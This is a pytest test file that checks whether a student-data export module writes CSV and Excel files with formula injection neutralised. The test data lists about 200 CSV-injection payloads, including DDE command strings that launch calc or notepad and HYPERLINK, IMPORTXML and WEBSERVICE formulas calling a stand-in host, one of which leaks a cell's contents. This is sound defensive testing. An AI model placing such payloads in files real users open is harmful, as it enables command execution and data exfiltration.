"""Two hundred cells that a spreadsheet might run leave as text, and come back as they were."""

import csv
import io
import re
import tomllib
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from cohort_data.ingest.readers import read_file
from cohort_data.reports import exports
from cohort_data.reports.exports import as_csv, as_xlsx

ROOT = Path(__file__).parents[2]
# What a cell can begin with (OWASP, CSV injection), and what is hidden before it.
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "==", "+-"]
HIDDEN = ["", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "  \t "]
BODIES = [
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example?"&A1,"see")',
    "IMPORTXML(\"http://x.example\",'//a')",
    'WEBSERVICE("http://x.example")',
    "2+5+cmd|'/C notepad'!A1",
    "5",
    '1","2',
    "A1;B1",
]
PAYLOADS = [
    *(hidden + sign + BODIES[row] for row, sign in enumerate(SIGNS) for hidden in HIDDEN),
    *(sign + body for sign in SIGNS for body in BODIES),
]
FRAME = pd.DataFrame(
    {"Student ID": [f"S{row}" for row in range(len(PAYLOADS))], "Name": PAYLOADS, "Area": PAYLOADS}
)
COLUMNS = ["Name", "Area"]


def live(content: bytes) -> list[str]:
    """The cells of a CSV file that begin like a formula, read with no help from our rule."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    return [cell for cell in cells if re.match(r"[\W_]", cell) and not cell.startswith("'")]


def sheet(content: bytes):
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))


def test_there_are_two_hundred_different_payloads_in_two_columns():
    assert len(PAYLOADS) == 200


def test_no_payload_is_live_in_csv():
    assert live(as_csv(FRAME)) == []


def test_payloads_leave_as_typed_behind_one_apostrophe():
    read = list(csv.reader(io.StringIO(as_csv(FRAME).decode("utf-8-sig"), newline="")))
    assert [row[1:] for row in read[1:]] == [[f"'{text}"] * 2 for text in PAYLOADS]


def test_headers_are_no_way_in_either():
    wide = pd.DataFrame([range(len(PAYLOADS))], columns=PAYLOADS)
    assert live(as_csv(wide)) == []


def test_without_the_apostrophe_payloads_would_be_live(monkeypatch):
    monkeypatch.setattr(exports, "FORMULA", re.compile("(?!)"))
    assert len(live(as_csv(FRAME))) == 2 * len(PAYLOADS)


def test_no_payload_is_a_formula_in_a_workbook_and_none_becomes_one_when_edited():
    rows = sheet(as_xlsx(FRAME))
    assert {cell.data_type for row in rows for cell in row} == {"s"}
    assert {cell.quotePrefix for row in rows for cell in row[1:]} == {True}
    assert not any(row[0].quotePrefix for row in rows)


def test_a_workbook_holds_the_text_as_written():
    content = as_xlsx(FRAME)
    read = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    # A workbook has no carriage returns of its own: XML reads them as line feeds.
    assert [told(row[1]) for row in read[1:]] == [told(text) for text in PAYLOADS]


def told(text: str) -> str:
    return re.sub(r"\r\n?|_x000D_", "\n", text).replace("\n\n", "\n")


@pytest.mark.parametrize("made", [as_csv, as_xlsx])
def test_a_thousand_negative_numbers_stay_numbers(made):
    numbers = [-(row + 1) / 4 for row in range(1000)]
    content = made(pd.DataFrame({"Score": numbers}))
    if made is as_csv:
        assert [float(line.strip('"')) for line in content.decode().split()[1:]] == numbers
    else:
        assert [row[0].value for row in sheet(content)] == numbers
        assert {row[0].data_type for row in sheet(content)} == {"n"}


NAMES = ["O'Brien, Ada", "*Jr* Cole", "$5 and $6", "<b>Ort</b>", 'Zoë "Zo" Moss', "李 小龙", "a=b"]


@pytest.mark.parametrize(("made", "file"), [(as_csv, "list.csv"), (as_xlsx, "list.xlsx")])
def test_an_exported_list_that_is_uploaded_again_gives_the_same_names(made, file):
    frame = pd.DataFrame({"Student ID": [f"S{row}" for row in range(7)], "Name": NAMES})
    assert read_file(file, made(frame)).cells["Name"].tolist() == NAMES


def test_names_like_formulas_come_back_from_a_workbook_as_they_were():
    names = [sign + body for sign in SIGNS for body in BODIES]
    frame = pd.DataFrame({"Student ID": [f"S{row}" for row in range(100)], "Name": names})
    assert read_file("list.xlsx", as_xlsx(frame)).cells["Name"].tolist() == names


def test_the_table_download_that_comes_with_streamlit_is_off():
    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert settings["client"]["disableDataExport"] is True
